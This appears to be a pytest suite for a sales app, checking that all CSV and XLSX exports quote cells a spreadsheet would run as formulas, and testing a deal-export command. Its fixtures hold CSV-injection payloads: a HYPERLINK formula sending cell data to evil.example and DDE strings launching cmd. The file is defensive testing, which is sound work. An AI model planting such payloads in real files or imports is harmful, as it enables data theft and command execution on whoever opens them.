"""Files that leave the app: every CSV and XLSX the product writes neutralises cells
that a spreadsheet would run as formulas, through the one writer in sales.export; and
`python -m sales export deals`, the deal explorer's export from the command line.

Hostile values get into a real database the way they would in life: through an import."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sales.calls import call_export, call_history, save_call
from sales.cli import main
from sales.db import connect, write_transaction
from sales.explorer import DealQuery, export_rows
from sales.export import csv_bytes, neutralise, write_file, xlsx_bytes
from sales.inblood import Change
from sales.ingest.preview import rejected_csv
from sales.periods import parse_period
from sales.settings import load_settings
from sales.view import Filters, View

ROOT = Path(__file__).resolve().parents[2]
AS_OF = "2026-11-20"
VIEW = View(parse_period("FY2026-Q4"), date(2026, 11, 20))
# Cells starting with these run as formulas (OWASP "CSV injection").
_LIVE = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[\d.,]*\d[\d.,]*(?:[eE][+-]?\d+)?")
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "account_name": "+SUM(1+1)*cmd|' /C calc'!A0",
    "next_step": "-2+3+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)",
    "team": "=1+1",
}


def live_csv_cells(data: bytes) -> list[str]:
    """Text cells of a CSV that a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row
            if cell[:1] in _LIVE and not _NUMBER.fullmatch(cell)]


def live_xlsx_cells(data: bytes) -> list[str]:
    """Formula cells of a workbook, and text cells that would become formulas on editing."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book
            for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in _LIVE
                                         and not _NUMBER.fullmatch(cell.value))]


@pytest.fixture
def hostile_db(tmp_path, capsys) -> Path:
    """The canonical fixture with one deal (H1) whose text fields are formulas, imported from
    a CSV, plus a saved call by a user whose name is a formula."""
    frame = pd.read_csv(ROOT / "tests" / "fixtures" / "opportunities.csv", dtype=str,
                        keep_default_na=False)
    hostile = {**frame.iloc[1].to_dict(), "opportunity_id": "H1", **HOSTILE}
    frame = pd.concat([frame.assign(next_step=""), pd.DataFrame([hostile])], ignore_index=True)
    export = tmp_path / "hostile.csv"
    frame.to_csv(export, index=False)
    path = tmp_path / "hostile.duckdb"
    assert main(["import", str(export), "--db", str(path), "--as-of", AS_OF]) == 0
    capsys.readouterr()
    con = connect(path)
    with write_transaction(con) as cur:
        save_call(cur, VIEW, load_settings(cur), None,
                  {"H1": Change(True, "=cmd|' /C calc'!A0", 100, "Commit", False)},
                  "=HYPERLINK(\"http://evil.example\")", note="@SUM(A1:A9)",
                  saved_at=datetime(2026, 11, 20, 10))
    con.close()
    return path


def test_the_writer_quotes_formula_text_and_leaves_numbers_alone():
    frame = pd.DataFrame({"text": ["=1+1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\rx", "plain",
                                   "-250", "1e3", None],
                          "amount": [-5.0, 1.5, 0.0, -1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
    safe = neutralise(frame)
    assert safe["text"].tolist()[:8] == ["'=1+1", "'+A1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx",
                                         "plain", "-250"]
    assert safe["amount"].tolist() == frame["amount"].tolist()  # numbers stay numbers
    assert frame["text"].iloc[0] == "=1+1"  # the caller's frame is not changed
    text = csv_bytes(frame).decode()
    assert "'=1+1" in text and "\n-5.0," not in text and "-5.0" in text and "'-5.0" not in text
    assert not live_xlsx_cells(xlsx_bytes({"Sheet": frame}))
    # Headers from a file or a query are cells too.
    assert csv_bytes(pd.DataFrame({"=evil()": [1]})).decode().startswith("'=evil()")


def test_the_deal_explorer_downloads_have_no_formula_cell(hostile_db):
    con = connect(hostile_db)
    frame, _ = export_rows(con, VIEW, DealQuery())
    con.close()
    assert HOSTILE["name"] in set(frame["name"])  # the data keeps what the user typed
    assert not live_csv_cells(csv_bytes(frame))
    assert not live_xlsx_cells(xlsx_bytes({"Deals": frame}))
    cell = {row[1] for row in csv.reader(io.StringIO(csv_bytes(frame).decode()))}
    assert "'" + HOSTILE["name"] in cell


def test_the_call_exports_have_no_formula_cell(hostile_db):
    con = connect(hostile_db)
    history = call_history(con, VIEW)
    call_id = int(history.call_id.iloc[-1])
    decisions = call_export(con, call_id)
    con.close()
    assert decisions.saved_by.iloc[0].startswith("=HYPERLINK")
    assert not live_csv_cells(csv_bytes(decisions))
    assert not live_xlsx_cells(xlsx_bytes({"Summary": history, "Decisions": decisions}))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_command_line_export_has_no_formula_cell(hostile_db, tmp_path, capsys, suffix):
    out = tmp_path / f"deals{suffix}"
    assert main(["export", "deals", "--db", str(hostile_db), "--as-of", AS_OF,
                 "--out", str(out)]) == 0
    assert f"9 deals to {out}" in capsys.readouterr().out
    data = out.read_bytes()
    assert not (live_csv_cells(data) if suffix == ".csv" else live_xlsx_cells(data))


def test_the_rejects_files_have_no_formula_cell(tmp_path, capsys):
    export = tmp_path / "bad.csv"
    export.write_text('opportunity_id,stage,amount,=HEADER()\nA,4-Proposal,100,x\n'
                      'B,=cmd|\' /C calc\'!A0,@SUM(1),"-2+3"\n')
    assert main(["import", str(export), "--db", str(tmp_path / "t.duckdb"), "--as-of", AS_OF,
                 "--skip-invalid", "--rejects", str(tmp_path)]) == 0
    capsys.readouterr()
    written = (tmp_path / "bad.rejected.csv").read_bytes()
    assert b"'=cmd" in written and b"'=HEADER()" in written
    assert not live_csv_cells(written)
    # The Import page's download of the same rows.
    rows = pd.DataFrame({"row": [3], "problems": ["unknown stage"], "=HEADER()": ["=cmd"]})
    assert not live_csv_cells(rejected_csv({"bad.csv": rows}))


def test_no_page_or_module_writes_csv_or_xlsx_but_the_one_writer():
    # One writer does it for every export (STYLE "Text and files that leave the app").
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|openpyxl\.Workbook\(")
    offenders = [f"{path.relative_to(ROOT)}:{number}"
                 for folder in ("sales", "ui", "pages") for path in (ROOT / folder).rglob("*.py")
                 if path != ROOT / "sales" / "export.py"
                 for number, line in enumerate(path.read_text().splitlines(), 1)
                 if writers.search(line)]
    assert offenders == []


# --- python -m sales export deals ---------------------------------------------------------------


def test_export_deals_writes_the_explorers_rows(seeded_path, tmp_path, capsys):
    out = tmp_path / "deals.csv"
    assert main(["export", "deals", "--db", str(seeded_path), "--out", str(out)]) == 0
    # conftest: 18 deals; as of the latest snapshot (2026-11-20), every deal, largest first.
    assert capsys.readouterr().out.startswith(f"Wrote 18 deals to {out}")
    written = pd.read_csv(out)
    assert len(written) == 18 and written.opportunity_id.iloc[0] == "U1"
    con = connect(seeded_path)
    expected, _ = export_rows(con, VIEW, DealQuery())
    con.close()
    assert written.opportunity_id.tolist() == expected.opportunity_id.tolist()


def test_export_deals_filters_like_report(seeded_path, tmp_path, capsys):
    out = tmp_path / "ann.xlsx"
    assert main(["export", "deals", "--db", str(seeded_path), "--owner", "Ann",
                 "--period", "FY2026-Q4", "--out", str(out)]) == 0
    capsys.readouterr()
    # Ann's deals closing in FY2026-Q4 (2026-10-01 … 2026-12-31): D1, D2, D7, D8.
    frame = pd.read_excel(out, sheet_name="Deals")
    assert sorted(frame.opportunity_id) == ["D1", "D2", "D7", "D8"]
    con = connect(seeded_path)
    same, _ = export_rows(con, View(VIEW.period, VIEW.as_of, Filters.of(owner=["Ann"])),
                          DealQuery(close_from=VIEW.period.start, close_to=VIEW.period.end))
    con.close()
    assert sorted(same.opportunity_id) == sorted(frame.opportunity_id)


@pytest.mark.parametrize("options, out, message", [
    ([], "deals.txt", "--out must end in .csv or .xlsx"),
    (["--period", "next quarter"], "deals.csv", "next quarter"),
])
def test_export_deals_bad_input_is_one_line_and_exit_2(seeded_path, tmp_path, capsys, options,
                                                       out, message):
    assert main(["export", "deals", "--db", str(seeded_path), *options,
                 "--out", str(tmp_path / out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: ") and message in err
    assert not (tmp_path / out).exists()


def test_export_deals_without_a_database_says_how_to_get_one(tmp_path, capsys):
    assert main(["export", "deals", "--db", str(tmp_path / "none.duckdb"),
                 "--out", str(tmp_path / "d.csv")]) == 2
    assert "no database at" in capsys.readouterr().err


def test_write_file_refuses_other_suffixes(tmp_path):
    with pytest.raises(ValueError, match=".csv or .xlsx"):
        write_file(pd.DataFrame({"a": [1]}), tmp_path / "x.json")
